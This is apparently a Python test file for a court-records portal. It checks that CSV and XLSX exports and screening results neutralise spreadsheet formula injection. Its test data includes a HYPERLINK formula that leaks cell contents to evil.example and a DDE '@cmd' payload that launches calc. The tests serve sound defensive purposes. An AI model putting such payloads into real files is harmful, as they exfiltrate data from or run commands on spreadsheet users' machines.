"""No cell of a file we hand out runs as a formula: an export whose names start with
``=HYPERLINK(…)`` and a screening upload that typed such names get them back as text (a
leading apostrophe), opened with the csv module and openpyxl as a spreadsheet user would;
case numbers and ordinary names are left exactly as they were."""

from __future__ import annotations

import csv
import io
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from casework_site import CaseSite, case_site, token
from openpyxl import load_workbook
from starlette.exceptions import StarletteDeprecationWarning
from support import ingest, make_settings, org, person

from core.formula_guard import guard_row, safe_cell, text_cell
from portal.app import create_app

with warnings.catch_warnings():
    warnings.filterwarnings("ignore", "Using `httpx`", StarletteDeprecationWarning)
    from starlette.testclient import TestClient

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
CASE = "(2023)京0105执1234号"


def test_only_text_that_starts_like_a_formula_is_marked() -> None:
    for formula in (LINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1"):
        assert text_cell(formula) == "'" + formula
    for plain in (CASE, "（2023）京0105执1234号", "张伟", "", "'=already text", "a=b"):
        assert text_cell(plain) == plain
    assert safe_cell(43) == 43 and safe_cell(None) is None
    # A whole row, as the exports write it: the same marks, and an unknown value empty.
    assert guard_row([LINK, CASE, None, 43, "", "-"]) == ["'" + LINK, CASE, "", 43, "", "'-"]


@pytest.fixture
def client(tmp_path: Path, database_url: str) -> Iterator[Any]:
    settings = make_settings(tmp_path, database_url, SHIXIN_RATE_LIMIT_ENABLED="0")
    with TestClient(create_app(settings, background=False)) as client:
        ingest(
            client.app.state.service,
            person("evil", iname=LINK, duty="+86 10 1234 5678", caseCode=CASE),
            org("acme", businessEntity="@SUM(1+1)", performance="-"),
        )
        yield client


def test_an_export_gives_formula_like_text_back_as_text(client: Any) -> None:
    body = client.get("/api/v1/export?keys=en").content.decode("utf-8-sig")
    rows = {r["id"]: r for r in csv.DictReader(body.splitlines()[1:])}
    assert rows["evil"]["iname"] == "'" + LINK
    assert rows["evil"]["duty"] == "'+86 10 1234 5678"
    assert rows["evil"]["caseCode"] == CASE  # a bracket first: untouched
    assert rows["acme"]["businessEntity"] == "'@SUM(1+1)"
    assert rows["acme"]["performance"] == "'-"

    book = load_workbook(io.BytesIO(client.get("/api/v1/export?format=xlsx&keys=en").content))
    sheet = book["名单"]
    header = [c.value for c in sheet[1]]
    names = {row[0].value: row[header.index("iname")] for row in sheet.iter_rows(min_row=2)}
    assert names["evil"].value == "'" + LINK and names["evil"].data_type == "s"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)

    jsonl = client.get("/api/v1/export?format=jsonl").text
    assert LINK.replace('"', '\\"') in jsonl  # data for programs: as the court sent it


@pytest.fixture
def cs(tmp_path: Path, database_url: str) -> Iterator[CaseSite]:
    with case_site(tmp_path, database_url) as site:
        yield site


def test_a_screening_result_gives_the_typed_names_back_as_text(cs: CaseSite) -> None:
    typed = io.StringIO(newline="")
    lines = [["姓名/名称", "证件号码", "备注"], [LINK, "", "@cmd|' /C calc'!A0"]]
    csv.writer(typed).writerows([*lines, ["张伟", "", "客户-1"]])
    page = token(cs.client, "/screening")
    answer = cs.client.post(
        "/screening",
        data={"csrf_token": page},
        files=[("file", ("list.csv", typed.getvalue().encode(), "text/csv"))],
        follow_redirects=False,
    )
    assert answer.status_code == 303, answer.text
    url = answer.headers["location"]
    cs.site.app.state.screenings.run()

    body = cs.client.get(url + "/result.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert rows[1][1] == "'" + LINK and rows[1][3] == "'@cmd|' /C calc'!A0"
    assert rows[2][1] == "张伟" and rows[2][3] == "客户-1"

    book = load_workbook(io.BytesIO(cs.client.get(url + "/result.xlsx").content))
    cells = list(book.worksheets[0].iter_rows(min_row=2))
    assert cells[0][1].value == "'" + LINK and cells[0][1].data_type == "s"
    assert all(c.data_type != "f" for row in cells for c in row)
